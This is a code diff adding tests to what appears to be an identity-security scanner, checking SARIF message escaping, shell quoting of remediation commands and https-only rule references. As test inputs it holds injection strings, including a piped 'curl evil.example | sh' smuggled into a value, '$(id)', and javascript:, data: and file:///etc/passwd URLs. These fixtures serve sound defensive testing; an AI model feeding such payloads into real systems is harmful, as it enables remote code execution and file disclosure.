@@ -120,3 +120,30 @@ describe('secret-shaped text', () => {
     expect(maskSecrets(`note: ${CLIENT}`)).toBe('note: client_secret=[redacted]');
   });
 });
+
+describe('SARIF, rule references and fix commands', () => {
+  it('SARIF message.text escapes embedded-link brackets and placeholder braces', async () => {
+    const { sarifText } = await import('../../src/report/sarif.js');
+    expect(sarifText('role [click](1) {0} \\')).toBe('role \\[click\\](1) {{0}} \\\\');
+    const sarif = JSON.parse(out('sarif'));
+    const text: string = sarif.runs[0].results[0].message.text;
+    expect(text).not.toMatch(/(?<!\\)\[[^\]]*\]\(/);
+  });
+
+  it('a remediation command quotes every substituted value as one shell word', async () => {
+    const { shellQuote } = await import('../../src/rules/evaluate.js');
+    expect(shellQuote('ci-deployer')).toBe('ci-deployer');
+    expect(shellQuote("x'; curl evil.example | sh; echo '")).toBe(`'x'\\''; curl evil.example | sh; echo '\\'''`);
+    expect(shellQuote('$(id)')).toBe("'$(id)'");
+  });
+
+  it('rule references accept only https: URLs', async () => {
+    const { ruleSchema } = await import('../../src/rules/schema.js');
+    const base = { id: 'r', title: 't', family: 'over-scoped', severity: 'low', owasp: ['NHI5'], target: 'identity', description: 'd', remediation: { text: 'x' }, condition: 'true', message: 'm' };
+    expect(ruleSchema.safeParse({ ...base, references: ['https://example.com/a'] }).success).toBe(true);
+    for (const bad of ['javascript:alert(1)', 'http://example.com', 'data:text/html,<script>x</script>', 'file:///etc/passwd']) {
+      const parsed = ruleSchema.safeParse({ ...base, references: [bad] });
+      expect(parsed.success, bad).toBe(false);
+    }
+  });
+});
